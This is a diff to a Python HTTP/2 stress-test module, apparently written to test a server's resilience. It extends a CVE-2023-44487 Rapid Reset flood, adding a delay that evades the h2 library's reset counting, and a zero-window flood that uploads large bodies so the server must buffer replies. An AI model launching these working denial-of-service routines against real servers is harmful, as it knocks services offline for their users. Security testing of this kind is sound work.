@@ -60,17 +60,28 @@ def _go(port, conns, seconds, body, read=True, initial_settings=b""):
                    goaway_codes=sorted({a.goaway for a in cut if a.goaway is not None}))
 
 
-def rapid_reset(port, seconds, conns=4, batch=200):
-    """CVE-2023-44487: open a stream and cancel it at once, without end."""
+def rapid_reset(port, seconds, conns=4, batch=200, gap=0.0, path=b"/"):
+    """CVE-2023-44487: open a stream and cancel it at once, without end. With `gap` > 0
+    the cancels follow each batch of requests after that many seconds, once the server
+    has taken the streams up (h2's count of streams reset before they were accepted no
+    longer sees them)."""
+    head = request_block(b"GET", path)
+
     def body(a, deadline, n):
         sid = 1
         while a.cut_at is None and time.monotonic() < deadline:
-            out = []
+            opens, resets = [], []
             for _ in range(batch):
-                out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, GET_ROOT))
-                out.append(frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
+                opens.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, head))
+                resets.append(frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
                 sid += 2
-            if not a.send(b"".join(out), deadline):
+            if gap:
+                if not a.send(b"".join(opens), deadline):
+                    break
+                time.sleep(gap)
+                if not a.send(b"".join(resets), deadline):
+                    break
+            elif not a.send(b"".join(o + r for o, r in zip(opens, resets)), deadline):
                 break
             n["streams"] += batch
             n["frames"] += 2 * batch
@@ -132,18 +143,47 @@ def empty_data_flood(port, seconds, conns=4, streams=10, payload=b""):
     return _go(port, conns, seconds, body)
 
 
-def window_never_opened(port, seconds, conns=4, streams=100, path=b"/stream?n=100000&size=65536"):
+def window_never_opened(port, seconds, conns=4, streams=100, body_bytes=256 * 1024, path=b"/echo", window=0):
     """A client that announces a stream window of 0 and never opens it (nor the
-    connection's), asking for large answers on many streams, while staying active (PINGs)
-    so that it never looks idle. The server must not buffer the answers without bound."""
-    hello = settings(initial_window_size=0)
+    connection's), while staying active (PINGs) so that it never looks idle. With
+    `body_bytes` it uploads that much to `path` (POST /echo) on each of `streams` streams,
+    so that every answer is as large; without, it GETs `path` (a large streamed answer).
+    The server must not hold those answers for ever. `window` 1 lets one byte of each
+    answer out, so that the server hands the rest to its HTTP/2 layer at once."""
+    hello = settings(initial_window_size=window)
+    # The connection's window for our uploads starts at the protocol's 65,535 bytes; the
+    # server widens it with WINDOW_UPDATEs. Its SETTINGS give each stream 1 MiB (hyper).
+    server_window = 65535
 
     def body(a, deadline, n):
-        head = request_block(b"GET", path)
-        sids = range(1, 2 * streams, 2)
-        if not a.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, head) for s in sids)):
-            return
-        n["streams"] += streams
+        sid = 1
+        in_flight = 0       # bytes uploaded
+        while not a.frames_in.get(SETTINGS) and a.cut_at is None and time.monotonic() < deadline:
+            time.sleep(0.005)
+        for _ in range(streams):
+            if a.cut_at is not None or time.monotonic() > deadline:
+                return
+            if not body_bytes:
+                if not a.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(b"GET", path)), deadline):
+                    return
+            else:
+                head = request_block(b"POST", path, literal(b"content-length", b"%d" % body_bytes))
+                if not a.send(frame(HEADERS, END_HEADERS, sid, head), deadline):
+                    return
+                left = body_bytes
+                while left:
+                    while in_flight + 16384 > server_window + a.credit:
+                        if a.cut_at is not None or time.monotonic() > deadline:
+                            return
+                        time.sleep(0.005)
+                    take = min(16384, left)
+                    left -= take
+                    in_flight += take
+                    if not a.send(frame(DATA, 0 if left else END_STREAM, sid, b"w" * take), deadline):
+                        return
+                    n["frames"] += 1
+            n["streams"] += 1
+            sid += 2
         while a.cut_at is None and time.monotonic() < deadline:
             if not a.send(frame(PING, 0, 0, b"alive..!"), deadline):
                 break
